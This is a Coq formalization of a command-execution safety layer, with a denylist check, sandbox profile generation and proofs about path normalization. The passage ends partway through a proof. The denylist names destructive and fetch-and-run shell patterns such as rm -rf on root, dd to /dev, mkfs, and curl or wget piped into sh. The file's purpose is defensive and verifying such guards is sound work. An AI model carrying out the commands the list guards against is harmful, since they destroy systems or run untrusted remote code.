(* ===== verification/ExecSafety.v ===== *)
(** Execution safety (exec_safety.rs): the denylist a check command passes
    before it reaches a shell, and the dispatch to a sandbox backend.

    Texts are ASCII.  The file system, the platform, the environment and the
    kernel are arguments; what the kernel of a sandbox does with the command
    line, the profile or the rules is not modelled. *)
From S2P Require Import Prelude Config Text.
Local Open Scope string_scope.
Local Open Scope list_scope.

(** ** The denylist *)

Inductive DenyReason :=
  | RmRfRoot
  | Redirect (target root : string)
  | DdToDev
  | FormatsFilesystem
  | RemotePipeShell.

Inductive ExecVerdict := Allow | Deny (reason : DenyReason).

Definition not_alphanumeric (c : ascii) : bool := negb (is_ascii_alphanumeric c).

Definition is_shell_interp (tok : string) : bool :=
  bool_decide (trim_matches not_alphanumeric (basename tok) ∈ ["sh"; "bash"; "zsh"; "dash"; "ksh"]).

Definition is_exec_wrapper (tok : string) : bool :=
  bool_decide (basename tok ∈ ["env"; "command"; "nice"; "nohup"; "setsid"; "stdbuf"; "time"]).

Definition SENSITIVE_ROOTS : list string :=
  ["/etc"; "/var"; "/boot"; "/bin"; "/sbin"; "/usr"; "/lib"; "/lib64"; "/opt"; "/root"; "/dev"; "/sys"; "/proc"].

(** *** Targets *)

Definition is_quote (c : ascii) : bool := Ascii.eqb c quote || Ascii.eqb c "'".

(** One component of the walk; the top of the stack comes first. *)
Definition walk_component (stack : list string) (component : string) : list string :=
  if bool_decide (component = "" \/ component = ".") then stack
  else if bool_decide (component = "..") then
    match stack with
    | [] => []
    | top :: below => if str_is_empty top then stack else below
    end
  else component :: stack.

(** The target without its quotes and one leading [./]. *)
Definition target_path (rest : string) : string :=
  let rest := trim_matches is_quote rest in default rest (strip_prefix "./" rest).

Definition resolve (components : list string) : list string := rev (foldl walk_component [] components).

Definition normalize_target_for_match (rest : string) : string :=
  let s := target_path rest in
  if negb (starts_with "/" s) then s else "/" +:+ join "/" (resolve (split_on "/" s)).

Definition SENSITIVE : list string :=
  ["/etc/"; "/etc"; "/var/"; "/var"; "/boot/"; "/boot"; "/bin/"; "/bin"; "/sbin/"; "/sbin";
   "/usr/"; "/usr"; "/lib/"; "/lib"; "/opt/"; "/opt"].

Definition match_sensitive_target (rest : string) : option DenyReason :=
  let normalized := normalize_target_for_match rest in
  Redirect rest <$> find_first (fun root => bool_decide (normalized = root) || starts_with root normalized) SENSITIVE.

Definition is_sensitive_root_delete (p : string) : bool :=
  let n := normalize_target_for_match (trim_matches is_quote p) in
  bool_decide (trim_end_matches (Ascii.eqb "/") (trim_end_matches (Ascii.eqb "*") n) ∈ SENSITIVE_ROOTS).

(** *** [rm -rf /] *)

(** The flags after [rm]: whether they ask for recursion and for force, and
    the words after them. *)
Fixpoint rm_flags (toks : list string) (has_r has_f : bool) : bool * bool * list string :=
  match toks with
  | [] => (has_r, has_f, [])
  | f :: rest =>
      if negb (starts_with "-" f) then (has_r, has_f, toks)
      else if bool_decide (f = "--") then (has_r, has_f, rest)
      else rm_flags rest (has_r || str_has "r" (str_drop 1 f) || str_has "R" (str_drop 1 f))
             (has_f || str_has "f" (str_drop 1 f))
  end.

Definition is_root_path (p : string) : bool := bool_decide (p ∈ ["/"; "/*"; "/."]).

Fixpoint rm_paths (toks : list string) : bool :=
  match toks with
  | [] => false
  | p :: rest =>
      is_root_path p || is_sensitive_root_delete p
      || (bool_decide (p = "--")
          && match rest with next :: _ => is_root_path next || is_sensitive_root_delete next | [] => false end)
      || rm_paths rest
  end.

Fixpoint rm_rf_root_in (toks : list string) : bool :=
  match toks with
  | [] => false
  | t :: rest =>
      (bool_decide (t = "rm")
       && let '(has_r, has_f, paths) := rm_flags rest false false in has_r && has_f && rm_paths paths)
      || rm_rf_root_in rest
  end.
Definition has_rm_rf_root (s : string) : bool := rm_rf_root_in (split_whitespace s).

(** *** Redirections *)

Definition is_redirect_op_token (s : string) : bool :=
  bool_decide (s ∈ ["&>>"; "&>"]) || bool_decide (skip_while is_ascii_digit s ∈ [">"; ">>"; ">|"; ">&"]).

Definition non_empty (s : string) : option string := if str_is_empty s then None else Some s.

(** The last loop: the operators of which a non-empty rest is left. *)
Definition plain_redirect_target (t : string) : option string :=
  find_map (fun op => strip_prefix op t ≫= non_empty) [">>"; ">|"; ">"].

Definition glued_redirect_target (t : string) : option string :=
  match strip_prefix "&>>" t with
  | Some rest => non_empty rest
  | None =>
      match strip_prefix "&>" t with
      | Some rest => non_empty rest
      | None =>
          let t := skip_while is_ascii_digit t in
          match strip_prefix ">&" t with
          | Some rest => if negb (str_is_empty rest) && negb (str_all is_ascii_digit rest) then Some rest
                         else plain_redirect_target t
          | None => plain_redirect_target t
          end
      end
  end.

Definition try_split_glued_redirect (t : string) : option DenyReason :=
  glued_redirect_target t ≫= match_sensitive_target.

Definition or_else {A} (o : option A) (k : option A) : option A := match o with Some _ => o | None => k end.

Fixpoint redirected_in (toks : list string) : option DenyReason :=
  match toks with
  | [] => None
  | t :: rest =>
      or_else
        (if is_redirect_op_token t then match rest with target :: _ => match_sensitive_target target | [] => None end
         else try_split_glued_redirect t)
        (redirected_in rest)
  end.
Definition redirected_to_sensitive (s : string) : option DenyReason := redirected_in (split_whitespace s).

(** *** Devices and file systems *)

Definition writes_to_dev (arg : string) : bool :=
  match strip_prefix "of=" arg with Some val => starts_with "/dev/" val | None => false end.
Fixpoint dd_to_dev_in (toks : list string) : bool :=
  match toks with
  | [] => false
  | t :: rest => (bool_decide (t = "dd") && existsb writes_to_dev rest) || dd_to_dev_in rest
  end.
Definition has_dd_to_dev (s : string) : bool := dd_to_dev_in (split_whitespace s).

Definition names_device (next_raw : string) : bool :=
  starts_with "/dev/" (trim_matches not_alphanumeric next_raw) || starts_with "/dev/" next_raw.
Fixpoint mkfs_or_fdisk_in (toks : list string) : bool :=
  match toks with
  | [] => false
  | t :: rest =>
      let b := trim_matches not_alphanumeric (basename t) in
      bool_decide (b = "mkfs") || starts_with "mkfs." b || bool_decide (b ∈ ["mke2fs"; "wipefs"])
      || (bool_decide (b ∈ ["fdisk"; "sfdisk"; "sgdisk"])
          && match rest with next_raw :: _ => names_device next_raw | [] => false end)
      || mkfs_or_fdisk_in rest
  end.
Definition has_mkfs_or_fdisk (s : string) : bool := mkfs_or_fdisk_in (split_whitespace s).

(** *** A fetch piped into a shell *)

Definition is_fetcher_token (t : string) : bool :=
  bool_decide (trim_matches not_alphanumeric (basename t) ∈ ["curl"; "wget"; "busybox"]).

Definition extract_trailing_pipe_shell (t : string) : option string :=
  '(before, suffix) ← rsplit_once "|" t;
  if bool_decide (last (String.list_ascii_of_string before) = Some "|"%char) then None else non_empty suffix.

Definition trim_pipes (w : string) : string := skip_while (Ascii.eqb "|") w.

(** The words that only pass on to the next command, skipped. *)
Definition passes_on (w : string) : bool :=
  let w := trim_pipes w in is_exec_wrapper w || (str_has "=" w && negb (str_has "/" w)) || starts_with "-" w.
Fixpoint skip_wrappers (toks : list string) : list string :=
  match toks with
  | [] => []
  | w :: rest => if passes_on w then skip_wrappers rest else toks
  end.

Definition leading_candidate (t : string) (rest : list string) : option string :=
  tail ← strip_prefix "|" t;
  if str_is_empty tail then trim_pipes <$> head (skip_wrappers rest) else Some tail.

Fixpoint pipe_shell_in (toks : list string) : bool :=
  match toks with
  | [] => false
  | t :: rest =>
      if bool_decide (t = "||" \/ t = "|&") then pipe_shell_in rest
      else
        match leading_candidate t rest with Some c => is_shell_interp c | None => false end
        || match extract_trailing_pipe_shell t with Some c => is_shell_interp c | None => false end
        || pipe_shell_in rest
  end.
Definition has_remote_pipe_shell (s : string) : bool :=
  existsb is_fetcher_token (split_whitespace s) && pipe_shell_in (split_whitespace s).

Definition inspect_shell_command (cmd : string) : ExecVerdict :=
  let hay := join " " (split_whitespace cmd) in
  if has_rm_rf_root hay then Deny RmRfRoot
  else match redirected_to_sensitive hay with
       | Some reason => Deny reason
       | None =>
           if has_dd_to_dev hay then Deny DdToDev
           else if has_mkfs_or_fdisk hay then Deny FormatsFilesystem
           else if has_remote_pipe_shell hay then Deny RemotePipeShell
           else Allow
       end.

(** ** The sandbox backends *)

Inductive ExecSandbox := SandboxNone | Seatbelt | LinuxBubblewrap | LinuxLandlock | Unsupported.

Record SeatbeltProfileOptions := mkSeatbeltOptions { sb_allow_network : bool; sb_allow_tmp : bool; sb_allow_home_read : bool }.
Definition seatbelt_default : SeatbeltProfileOptions := mkSeatbeltOptions false true false.
Record LinuxBubblewrapProfileOptions := mkBwrapOptions { bw_unshare_net : bool; bw_allow_tmp : bool; bw_allow_home_read : bool }.
Definition bwrap_default : LinuxBubblewrapProfileOptions := mkBwrapOptions true true false.
Record LinuxLandlockProfileOptions := mkLandlockOptions { ll_allow_tmp : bool; ll_allow_home_read : bool }.
Definition landlock_default : LinuxLandlockProfileOptions := mkLandlockOptions true false.

Record ExecSafetyConfig := mkExecSafety {
  backend : ExecSandbox;
  seatbelt : SeatbeltProfileOptions;
  linux_bubblewrap : LinuxBubblewrapProfileOptions;
  linux_landlock : LinuxLandlockProfileOptions
}.
Definition exec_safety_default : ExecSafetyConfig := mkExecSafety SandboxNone seatbelt_default bwrap_default landlock_default.

(** *** The seatbelt profile *)

(** A character with no representation in a literal of a profile. *)
Definition is_control (c : ascii) : bool :=
  let n := Ascii.nat_of_ascii c in
  negb (Ascii.eqb c tab) && ((n <? 32)%nat || (n =? 127)%nat).

Fixpoint sbpl_escape_path (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String ch r =>
      (if Ascii.eqb ch backslash then String backslash (String backslash "")
       else if Ascii.eqb ch quote then String backslash (String quote "")
       else if is_control ch then "?"
       else String ch "") +:+ sbpl_escape_path r
  end.

Inductive SubpathMode := SubpathRead | SubpathWrite.

Definition in_quotes (s : string) : string := String quote s +:+ String quote "".
Definition end_line (s : string) : string := s +:+ String newline "".

Definition subpath_clause (mode : SubpathMode) (path : string) : string :=
  let op := match mode with SubpathRead => "file-read*" | SubpathWrite => "file-write*" end in
  end_line ("(allow " +:+ op +:+ " (subpath " +:+ in_quotes (sbpl_escape_path path) +:+ "))").

(** A clause about a path the program names itself. *)
Definition fixed_clause (op path : string) : string := end_line ("(allow " +:+ op +:+ " (subpath " +:+ in_quotes path +:+ "))").

Definition push_when (b : bool) (l : list string) : list string := if b then l else [].

(** The pieces in the order they are pushed. *)
Definition seatbelt_clauses (cwd_str : string) (opts : SeatbeltProfileOptions) : list string :=
  [end_line "(version 1)"; end_line "(deny default)";
   fixed_clause "process-exec" "/usr/bin"; fixed_clause "process-exec" "/bin"; end_line "(allow process-fork)";
   subpath_clause SubpathRead cwd_str;
   fixed_clause "file-read*" "/usr/lib"; fixed_clause "file-read*" "/System"; fixed_clause "file-read*" "/Library";
   fixed_clause "file-read*" "/dev";
   subpath_clause SubpathWrite cwd_str]
  ++ push_when (sb_allow_tmp opts) [fixed_clause "file-write*" "/private/tmp"; fixed_clause "file-write*" "/tmp"]
  ++ push_when (sb_allow_home_read opts) [fixed_clause "file-read*" "/Users"]
  ++ [end_line (if sb_allow_network opts then "(allow network*)" else "(deny network*)");
      end_line "(allow sysctl-read)"; end_line "(allow mach-lookup)"; end_line "(allow signal)"].
Definition generate_seatbelt_profile (cwd_str : string) (opts : SeatbeltProfileOptions) : string :=
  join "" (seatbelt_clauses cwd_str opts).

(** *** The bubblewrap command line *)

Definition login_shell (cmd : string) : list string := ["sh"; "-l"; "-c"; cmd].

Definition ENV_ALLOWLIST : list (string * string) :=
  [("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"); ("HOME", "/root");
   ("LANG", "C.UTF-8"); ("TERM", "dumb")].

Definition generate_bubblewrap_argv (env : string -> option string) (cwd_str cmd : string)
    (opts : LinuxBubblewrapProfileOptions) : list string :=
  ["/usr/bin/bwrap"; "--tmpfs"; "/"; "--unshare-pid"; "--proc"; "/proc"; "--dev"; "/dev"; "--new-session"; "--clearenv"]
  ++ concat (map (fun '(var, def) => ["--setenv"; var; default def (env var)]) ENV_ALLOWLIST)
  ++ ["--ro-bind"; "/usr"; "/usr"; "--ro-bind"; "/bin"; "/bin"; "--ro-bind"; "/lib"; "/lib"; "--ro-bind"; "/etc"; "/etc";
      "--bind"; cwd_str; cwd_str; "--chdir"; cwd_str; "--die-with-parent"]
  ++ push_when (bw_allow_tmp opts) ["--tmpfs"; "/tmp"]
  ++ push_when (bw_allow_home_read opts) ["--ro-bind"; "/home"; "/home"]
  ++ push_when (bw_unshare_net opts) ["--unshare-net"]
  ++ ["--"] ++ login_shell cmd.

(** *** The Landlock rules *)

Inductive LandlockAccess := Read | ReadWrite | ReadExecute.
Record LandlockRuleDescriptor := mkRule { rule_path : string; access : LandlockAccess }.

Definition landlock_ruleset (cwd_str : string) (opts : LinuxLandlockProfileOptions) : list LandlockRuleDescriptor :=
  map (fun p => mkRule p ReadExecute) ["/usr"; "/bin"; "/lib"]
  ++ [mkRule "/etc" Read; mkRule cwd_str ReadWrite]
  ++ (if ll_allow_tmp opts then [mkRule "/tmp" ReadWrite; mkRule "/var/tmp" ReadWrite] else [])
  ++ (if ll_allow_home_read opts then [mkRule "/home" Read] else []).

(** What the kernel answers when the rules are put into force, and what is
    accepted of it. *)
Inductive RulesetStatus := FullyEnforced | PartiallyEnforced | NotEnforced.
Definition accept_enforcement (restricted : result RulesetStatus unit) : result unit unit :=
  match restricted with
  | Ok FullyEnforced => Ok ()
  | Ok _ | Err _ => Err ()
  end.

(** *** The dispatch *)

Record SandboxSpawnPlan := mkPlan {
  argv : list string;
  sandboxed : bool;
  plan_cwd : string;
  in_process_ruleset : option (list LandlockRuleDescriptor)
}.

Inductive TargetOs := Linux | Macos | OtherOs.
#[global] Instance TargetOs_eq_dec : EqDecision TargetOs. Proof. solve_decision. Defined.

Inductive SpawnError := UnresolvedCwd | UnsupportedPlatform (b : ExecSandbox) | UnknownBackend.

Section Dispatch.
Variable os : TargetOs.
(** [Path::canonicalize], as text; [None] where the path does not resolve. *)
Variable canonicalize : string -> option string.
Variable env : string -> option string.

(** The text of a path in a profile: canonical where it resolves. *)
Definition cwd_str (cwd : string) : string := default cwd (canonicalize cwd).

Definition seatbelt_plan (cwd cmd : string) (opts : SeatbeltProfileOptions) : result SandboxSpawnPlan SpawnError :=
  if bool_decide (os = Macos) then
    Ok (mkPlan (["/usr/bin/sandbox-exec"; "-p"; generate_seatbelt_profile (cwd_str cwd) opts] ++ login_shell cmd)
          true cwd None)
  else Err (UnsupportedPlatform Seatbelt).

Definition linux_plan (cwd cmd : string) (opts : LinuxBubblewrapProfileOptions) : result SandboxSpawnPlan SpawnError :=
  if bool_decide (os = Linux) then Ok (mkPlan (generate_bubblewrap_argv env (cwd_str cwd) cmd opts) true cwd None)
  else Err (UnsupportedPlatform LinuxBubblewrap).

Definition linux_landlock_plan (cwd cmd : string) (opts : LinuxLandlockProfileOptions) :
    result SandboxSpawnPlan SpawnError :=
  if bool_decide (os = Linux) then
    Ok (mkPlan (login_shell cmd) true cwd (Some (landlock_ruleset (cwd_str cwd) opts)))
  else Err (UnsupportedPlatform LinuxLandlock).

Definition at_cwd (cwd : string) (p : SandboxSpawnPlan) : SandboxSpawnPlan :=
  mkPlan (argv p) (sandboxed p) cwd (in_process_ruleset p).
Definition result_at (cwd : string) (r : result SandboxSpawnPlan SpawnError) : result SandboxSpawnPlan SpawnError :=
  match r with Ok p => Ok (at_cwd cwd p) | Err e => Err e end.

Definition wrap_spawn_command (cwd cmd : string) (policy : ExecSafetyConfig) : result SandboxSpawnPlan SpawnError :=
  match canonicalize cwd with
  | None => Err UnresolvedCwd
  | Some cwd_canonical =>
      match backend policy with
      | SandboxNone => Ok (mkPlan (login_shell cmd) false cwd_canonical None)
      | Seatbelt => result_at cwd_canonical (seatbelt_plan cwd_canonical cmd (seatbelt policy))
      | LinuxBubblewrap => result_at cwd_canonical (linux_plan cwd_canonical cmd (linux_bubblewrap policy))
      | LinuxLandlock => result_at cwd_canonical (linux_landlock_plan cwd_canonical cmd (linux_landlock policy))
      | Unsupported => Err UnknownBackend
      end
  end.

(** What a check comes to before anything is spawned: the two early answers
    of [run_check_watched], or the plan that is spawned. *)
Inductive CheckGate := Refused (reason : DenyReason) | NoSandbox (e : SpawnError) | SpawnPlan (p : SandboxSpawnPlan).
Definition check_gate (cwd cmd : string) (allow_dangerous : bool) (policy : ExecSafetyConfig) : CheckGate :=
  match (if allow_dangerous then Allow else inspect_shell_command cmd) with
  | Deny reason => Refused reason
  | Allow =>
      match wrap_spawn_command cwd cmd policy with
      | Ok p => SpawnPlan p
      | Err e => NoSandbox e
      end
  end.
End Dispatch.

(** ** Paths

    What the kernel does with a path, read component by component: empty and
    dot components vanish, a parent component takes the proper one before it
    away, and vanishes at the root. *)
Definition proper (c : string) : Prop := c <> "" /\ c <> "." /\ c <> "..".

Inductive path_step : list string -> list string -> Prop :=
  | step_blank a b : path_step (a ++ "" :: b) (a ++ b)
  | step_dot a b : path_step (a ++ "." :: b) (a ++ b)
  | step_up a c b : proper c -> path_step (a ++ c :: ".." :: b) (a ++ b)
  | step_root b : path_step (".." :: b) b.

Lemma walk_proper stack c : Forall proper stack -> Forall proper (walk_component stack c).
Proof.
  intros Hs. unfold walk_component. case_bool_decide as H1; [done|]. case_bool_decide as H2.
  - destruct Hs as [|t l Ht Hl]; [done|]. destruct Ht as (? & _). by destruct t.
  - constructor; [|done]. unfold proper. tauto.
Qed.
Lemma walks_proper cs stack : Forall proper stack -> Forall proper (foldl walk_component stack cs).
Proof. revert stack. induction cs as [|c cs IH]; intros stack Hs; [done|]. apply IH. by apply walk_proper. Qed.

Lemma walk_push stack c : proper c -> walk_component stack c = c :: stack.
Proof. intros (? & ? & ?). unfold walk_component. rewrite !bool_decide_eq_false_2; tauto. Qed.
Lemma walk_up stack c : proper c -> walk_component (c :: stack) ".." = stack.
Proof. intros (? & _). unfold walk_component. cbn. by destruct c. Qed.
Lemma walks_push stack cs : Forall proper cs -> foldl walk_component stack cs = rev cs ++ stack.
Proof.
  intros H. revert stack. induction H as [|c cs Hc _ IH]; intros stack; [done|]. cbn [foldl rev].
  by rewrite walk_push, IH, <- app_assoc.
Qed.

(** A step does not change what the walk arrives at. *)
Lemma step_resolve cs ds : path_step cs ds -> resolve cs = resolve ds.
Proof.
  unfold resolve. intros [a b|a b|a c b Hc|b]; rewrite ?foldl_app; cbn [foldl]; [done..| |done].
  by rewrite (walk_push _ c Hc), walk_up.
Qed.

(** The walk is a sequence of steps. *)
Lemma walk_steps cs stack : Forall proper stack ->
  rtc path_step (rev stack ++ cs) (rev (foldl walk_component stack cs)).
Proof.
  revert stack. induction cs as [|c cs IH]; intros stack Hs; [by rewrite app_nil_r|].
  cbn [foldl]. etransitivity; [|apply IH, walk_proper, Hs].
  unfold walk_component. case_bool_decide as H1.
  { destruct H1 as [-> | ->]; apply rtc_once; constructor. }
  case_bool_decide as H2; [subst c|cbn [rev]; rewrite <- app_assoc; apply rtc_refl].
  destruct Hs as [|t l Ht Hl]; [apply rtc_once, step_root|].
  destruct t as [|a t]; [by destruct Ht as (? & _)|]. cbn [str_is_empty rev]. rewrite <- app_assoc.
  apply rtc_once. by constructor.
Qed.

(** The result of the walk is the one normal form of the steps. *)
Lemma resolve_normal_form cs l : resolve cs = l <-> rtc path_step cs l /\ Forall proper l.
Proof.
  split.
  - intros <-. split; [exact (walk_steps cs [] (Forall_nil_2 _))|].
    apply Forall_rev, walks_proper. constructor.
  - intros [H Hl]. assert (resolve cs = resolve l) as ->.
    { clear Hl. induction H as [|x y z Hxy _ IH]; [done|]. by rewrite (step_resolve _ _ Hxy). }
    unfold resolve. rewrite walks_push by done. by rewrite app_nil_r, rev_involutive.
Qed.

Lemma resolve_equal cs ds : resolve cs = resolve ds <-> rtsc path_step cs ds.
Proof.
  split.
  - intros H. destruct (proj1 (resolve_normal_form cs _) eq_refl) as [H1 _].
    destruct (proj1 (resolve_normal_form ds _) eq_refl) as [H2 _]. rewrite <- H in H2.
    etransitivity; [apply rtc_rtsc_rl, H1|]. symmetry. apply rtc_rtsc_rl, H2.
  - intros H. induction H as [|x y z [Hxy|Hxy] _ IH]; [done|..].
    + by rewrite (step_resolve _ _ Hxy).
    + by rewrite <- (step_resolve _ _ Hxy).
Qed.

Lemma resolve_elem cs c : c ∈ resolve cs -> c ∈ cs.
Proof.
  unfold resolve. rewrite list_elem_of_In, <- in_rev, <- list_elem_of_In. assert (forall stack, c ∈ foldl walk_component stack cs -> c ∈ stack \/ c ∈ cs) as H.
  { induction cs as [|x cs IH]; intros stack; cbn [foldl]; [by left|].
    intros [Hs|Hc]%IH; [|right; by right]. unfold walk_component in Hs.
    case_bool_decide; [by left|]. case_bool_decide.
    - left. destruct stack as [|t l]; [done|]. destruct (str_is_empty t); [done|by right].
    - apply elem_of_cons in Hs as [->|?]; [right; by left|by left]. }
  intros [?|?]%H; [by apply not_elem_of_nil in H0|done].
Qed.

Lemma split_on_join l : (forall c, c ∈ l -> str_has "/" c = false) -> l <> [] -> split_on "/" (join "/" l) = l.
Proof.
  induction l as [|w l IH]; [done|]. intros Hl _. destruct l as [|w' l].
  - apply split_on_whole, Hl. by left.
  - change (join "/" (w :: w' :: l)) with (w +:+ String "/" (join "/" (w' :: l))).
    rewrite split_on_app by (apply Hl; by left). f_equal. apply IH; [|done]. intros c Hc. apply Hl. by right.
Qed.

Lemma join_empty l : Forall proper l -> join "/" l = "" -> l = [].
Proof.
  intros [|w k Hw _] H; [done|]. destruct Hw as (Hw & _). destruct w; [done|]. by destruct k.
Qed.
Lemma join_inj l k :
  (forall c, c ∈ l -> str_has "/" c = false) -> (forall c, c ∈ k -> str_has "/" c = false) ->
  Forall proper l -> Forall proper k -> join "/" l = join "/" k -> l = k.
Proof.
  intros Hl Hk Pl Pk H. destruct l as [|x l].
  { symmetry. apply join_empty; [done|]. by rewrite <- H. }
  destruct k as [|y k]; [by apply join_empty|].
  rewrite <- (split_on_join (x :: l)), <- (split_on_join (y :: k)), H; done.
Qed.

(** Two absolute targets are normalized alike exactly when the kernel's steps
    make them the same path *)
Theorem normalize_equal_iff p q :
  starts_with "/" (target_path p) = true -> starts_with "/" (target_path q) = true ->
  (normalize_target_for_match p = normalize_target_for_match q <->
   rtsc path_step (split_on "/" (target_path p)) (split_on "/" (target_path q))).
Proof.
  intros Hp Hq. unfold normalize_target_for_match. rewrite Hp, Hq, <- resolve_equal. cbn [negb]. split; [|by intros ->].
  rewrite !str_app_cons, !str_nil_app. intros [= H]. revert H. apply join_inj.
  - intros c Hc%resolve_elem. by apply split_on_pieces in Hc.
  - intros c Hc%resolve_elem. by apply split_on_pieces in Hc.
  - apply Forall_rev, walks_proper. constructor.
  - apply Forall_rev, walks_proper. constructor.
Qed.

(** ** What the denylist denies *)

(** The names directly under the root that may not be written to. *)
Definition GUARDED : list string := ["etc"; "var"; "boot"; "bin"; "sbin"; "usr"; "lib"; "opt"].

(** An absolute target whose path, as the kernel reads it, has a first
    component that begins with a guarded name. *)
Definition guarded_target (rest : string) : Prop :=
  starts_with "/" (target_path rest) = true /\
  exists c cs name, rtc path_step (split_on "/" (target_path rest)) (c :: cs) /\ Forall proper (c :: cs) /\
    name ∈ GUARDED /\ starts_with name c = true.

Lemma match_sensitive_spec rest : is_Some (match_sensitive_target rest) <->
  exists name, name ∈ GUARDED /\ starts_with (String "/" name) (normalize_target_for_match rest) = true.
Proof.
  unfold match_sensitive_target. rewrite fmap_is_Some. set (n := normalize_target_for_match rest). split.
  - intros [root H]. apply find_first_Some in H as [Hr H].
    assert (starts_with root n = true) as Hn.
    { apply orb_true_iff in H as [H|H]; [|done]. apply bool_decide_eq_true in H as ->. apply starts_with_spec.
      exists "". by rewrite str_app_nil. }
    unfold SENSITIVE in Hr. rewrite !elem_of_cons in Hr.
    destruct_or! Hr; try (by apply not_elem_of_nil in Hr); subst root;
      (match type of Hn with starts_with (String _ ?w) _ = _ =>
         let b := eval vm_compute in (default w (strip_suffix "/" w)) in
         exists b; split; [unfold GUARDED; set_solver|]; revert Hn; apply starts_with_trans; reflexivity end).
  - intros (name & Hin & Hn). destruct (find_first _ SENSITIVE) as [r|] eqn:E; [by eexists|].
    rewrite find_first_None in E. exfalso.
    assert (String "/" name ∈ SENSITIVE) as Hs.
    { unfold GUARDED in Hin. rewrite !elem_of_cons in Hin. unfold SENSITIVE.
      destruct_or! Hin; try (by apply not_elem_of_nil in Hin); subst name; set_solver. }
    specialize (E _ Hs). by rewrite Hn, orb_true_r in E.
Qed.

(** A prefix without a slash of a joined path is one of its first component. *)
Lemma prefix_of_head name c cs : str_has "/" name = false -> name <> "" ->
  starts_with name (join "/" (c :: cs)) = starts_with name c.
Proof.
  intros Hn _. assert (exists t, join "/" (c :: cs) = c +:+ t /\ (t = "" \/ exists u, t = String "/" u)) as (t & -> & Ht).
  { destruct cs as [|d cs]; [exists ""; rewrite str_app_nil; by split; [|left]|].
    exists (String "/" (join "/" (d :: cs))). split; [done|right; by eexists]. }
  unfold starts_with. apply bool_decide_ext. revert c. induction name as [|a name IH]; intros c; [by rewrite !is_Some_alt|].
  cbn [str_has] in Hn. apply orb_false_iff in Hn as [Ha Hn]. destruct c as [|b c].
  - rewrite str_nil_app. destruct Ht as [->|[u ->]]; [done|]. cbn [strip_prefix]. by rewrite Ha.
  - rewrite str_app_cons. cbn [strip_prefix]. destruct (Ascii.eqb a b); [by apply IH|done].
Qed.

Lemma guarded_names name : name ∈ GUARDED -> str_has "/" name = false /\ name <> "".
Proof.
  unfold GUARDED. rewrite !elem_of_cons. intros H. destruct_or! H; try (by apply not_elem_of_nil in H); by subst name.
Qed.

Lemma match_sensitive_iff rest : is_Some (match_sensitive_target rest) <-> guarded_target rest.
Proof.
  rewrite match_sensitive_spec. unfold guarded_target, normalize_target_for_match.
  destruct (starts_with "/" (target_path rest)) eqn:Ea; cbn [negb].
  - assert (forall name, name ∈ GUARDED ->
      starts_with (String "/" name) ("/" +:+ join "/" (resolve (split_on "/" (target_path rest)))) =
      starts_with name (join "/" (resolve (split_on "/" (target_path rest))))) as Hs.
    { intros name _. rewrite str_app_cons, str_nil_app. unfold starts_with. cbn [strip_prefix]. by rewrite Ascii.eqb_refl. }
    split.
    + intros (name & Hin & H). rewrite Hs in H by done. destruct (guarded_names _ Hin) as [Hn Hne].
      destruct (resolve _) as [|c cs] eqn:Er; [by destruct name|]. rewrite prefix_of_head in H by done.
      apply resolve_normal_form in Er as [? ?]. split; [done|]. by exists c, cs, name.
    + intros (_ & c & cs & name & H1 & H2 & Hin & H). exists name. split; [done|]. rewrite Hs by done.
      destruct (guarded_names _ Hin) as [Hn Hne].
      rewrite (proj2 (resolve_normal_form _ (c :: cs))) by done. by rewrite prefix_of_head.
  - split; [|by intros [? _]]. intros (name & Hin & H).
    assert (starts_with "/" (target_path rest) = true) as H1; [|by rewrite Ea in H1].
    revert H. by apply starts_with_trans.
Qed.

(** *** [rm] *)

Definition is_flag (f : string) : Prop := starts_with "-" f = true /\ f <> "--".
Definition asks (c : ascii) (flags : list string) : Prop := exists f, f ∈ flags /\ str_has c (str_drop 1 f) = true.
Definition root_target (p : string) : Prop := is_root_path p = true \/ is_sensitive_root_delete p = true.
Definition no_flag_first (toks : list string) : Prop := forall x, head toks = Some x -> starts_with "-" x = false.

(** A recursive and forced removal that names a root: [rm], its flags, the end
    of the flags, the paths. *)
Definition removes_root (toks : list string) : Prop :=
  exists pre flags sep paths p,
    toks = pre ++ "rm" :: flags ++ sep ++ paths /\ Forall is_flag flags /\
    (sep = ["--"] \/ sep = [] /\ no_flag_first paths) /\
    (asks "r" flags \/ asks "R" flags) /\ asks "f" flags /\ p ∈ paths /\ root_target p.

Definition asksb (c : ascii) (flags : list string) : bool := existsb (fun f => str_has c (str_drop 1 f)) flags.
Lemma asksb_spec c flags : asksb c flags = true <-> asks c flags.
Proof. unfold asksb, asks. apply existsb_elem. Qed.

Lemma rm_flags_app flags sep paths r f : Forall is_flag flags -> (sep = ["--"] \/ sep = [] /\ no_flag_first paths) ->
  rm_flags (flags ++ sep ++ paths) r f =
    (r || asksb "r" flags || asksb "R" flags, f || asksb "f" flags, paths).
Proof.
  intros Hf Hs. revert r f. induction Hf as [|x flags [Hx Hd] _ IH]; intros r f.
  - cbn [asksb existsb app]. rewrite !orb_false_r. destruct Hs as [->|[-> Hp]]; cbn [app]; [done|].
    destruct paths as [|x paths]; [done|]. cbn [rm_flags]. by rewrite (Hp x eq_refl).
  - cbn [app rm_flags]. rewrite Hx, bool_decide_eq_false_2 by done. cbn [negb]. rewrite IH.
    unfold asksb. cbn [existsb].
    repeat match goal with |- context [existsb ?p ?l] => destruct (existsb p l) end;
      destruct r, f; repeat match goal with |- context [str_has ?c ?s] => destruct (str_has c s) end; done.
Qed.

Lemma rm_flags_split toks : exists flags sep paths, toks = flags ++ sep ++ paths /\ Forall is_flag flags /\
  (sep = ["--"] \/ sep = [] /\ no_flag_first paths).
Proof.
  induction toks as [|x toks (flags & sep & paths & -> & Hf & Hs)].
  - exists [], [], []. split_and!; [done|constructor|right]. split; [done|by intros ? ?].
  - destruct (starts_with "-" x) eqn:Hx.
    + destruct (decide (x = "--")) as [->|Hd].
      * exists [], ["--"], (flags ++ sep ++ paths). split_and!; [done|constructor|by left].
      * exists (x :: flags), sep, paths. split_and!; [done|by constructor|done].
    + exists [], [], (x :: flags ++ sep ++ paths). split_and!; [done|constructor|right]. split; [done|].
      by intros ? [= <-].
Qed.

Lemma rm_paths_spec toks : rm_paths toks = true <-> exists p, p ∈ toks /\ root_target p.
Proof.
  unfold root_target. induction toks as [|p rest IH]; cbn [rm_paths].
  - split; [done|]. by intros (p & Hp & _); apply not_elem_of_nil in Hp.
  - rewrite !orb_true_iff, IH, andb_true_iff. split.
